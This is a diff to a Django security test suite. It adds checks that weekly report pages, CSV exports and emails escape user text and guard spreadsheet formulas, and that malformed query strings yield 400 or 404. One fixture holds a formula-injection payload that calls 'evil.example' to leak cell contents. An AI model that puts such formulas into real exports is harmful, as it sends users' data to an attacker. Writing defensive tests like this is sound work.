@@ -111,10 +111,9 @@ def test_a_body_that_is_not_utf8_is_a_400(method, path, world):
         assert response.status_code == 400, f"{method} {path} {body!r}: {response.status_code}"
 
 
-@pytest.mark.parametrize("method,path", write_operations())
+@pytest.mark.parametrize("method,path", [op for op in write_operations() if string_fields(*op)])
 def test_a_nul_byte_in_any_string_field_is_a_400_naming_the_field(method, path, world):
     fields = string_fields(method, path)
-    assert fields, f"{method} {path} has no string field to try"
     for name in fields:
         response, changed = call(_admin(world), method, _fill(path, world), {name: "a\x00b"})
         assert response.status_code == 400, f"{method} {path} {name}: {response.status_code}"
@@ -130,6 +129,12 @@ def test_a_nul_byte_or_invalid_utf8_in_a_query_or_path_is_not_a_server_error(wor
             assert response.status_code in (200, 400), f"{path}?{query}: {response.status_code}"
     for path in ("/api/customers/%00/", "/api/customers/%FF/", "/feedback/%00/", "/status/%FF%FE/"):
         assert client.get(path).status_code == 404, path
+    pages = Client()
+    pages.force_login(world["users"][ADMIN])
+    for path in ("/api/reports/weekly/", "/reports/weekly/", "/reports/weekly.csv", "/reports/weekly/chart.png"):
+        for query in ("team=%00&week=2026-W01", "team=1&week=%00", "team=%FF&week=%C0%AF", "team=99999999999999999999&week=9999-W99"):
+            response = (client if path.startswith("/api/") else pages).get(f"{path}?{query}")
+            assert response.status_code in (400, 404), f"{path}?{query}: {response.status_code}"
 
 
 # --- Pagination -----------------------------------------------------------------------------------
@@ -212,7 +217,7 @@ def _target(method, path, world):
 
 
 def test_every_write_operation_has_a_valid_body_for_the_text_checks():
-    missing = [op for op in write_operations() if op not in VALID and op != ("POST", "/api/auth/token/")]
+    missing = [op for op in write_operations() if op not in VALID and free_text_fields(*op) and op != ("POST", "/api/auth/token/")]
     assert not missing, f"add a valid body to VALID in {__file__}: {missing}"
 
 
@@ -284,3 +289,40 @@ def test_emails_carry_user_text_verbatim_in_text_and_escaped_in_html(world):
     assert any(PAYLOAD in e.text for e in emails), "user text missing from the plain-text part"
     # Subjects are one line: no header injection through a name.
     assert not any(re.search(r"[\r\n]", e.subject) for e in emails)
+
+
+def test_weekly_report_page_csv_and_mail_show_user_text_escaped_and_formula_guarded(
+    world, smtp_server, django_capture_on_commit_callbacks
+):
+    from django.utils import timezone
+
+    from reports.services import weekly_report_send
+    from reports.weeks import last_full_week
+
+    a = world["A"]
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    a["team"].name = f"{formula} {PAYLOAD}"
+    a["team"].save()
+    week = last_full_week(timezone.now(), a["team"].tz)
+    pages = Client()
+    pages.force_login(a["manager"])
+    query = f"?team={a['team'].id}&week={week}"
+    page = pages.get("/reports/weekly/" + query)
+    assert page.status_code == 200
+    _assert_escaped(page.content.decode(), "weekly report page")
+    csv_text = pages.get("/reports/weekly.csv" + query).content.decode()
+    import csv
+    import io
+
+    cells = [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
+    assert f"'{formula} {PAYLOAD}" in cells, "the team's name is not in the CSV, guarded"
+    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())], "a cell a spreadsheet would run"
+    with django_capture_on_commit_callbacks(execute=True):  # it mails after commit
+        weekly_report_send(team=a["team"], week=week)
+    assert smtp_server.messages, "no report mail"
+    for message in smtp_server.messages:
+        for part in message.walk():
+            if part.get_content_type() == "text/html":
+                _assert_escaped(part.get_payload(decode=True).decode(), "report mail (html)")
+            if part.get_content_type() == "text/plain":
+                assert PAYLOAD in part.get_payload(decode=True).decode()
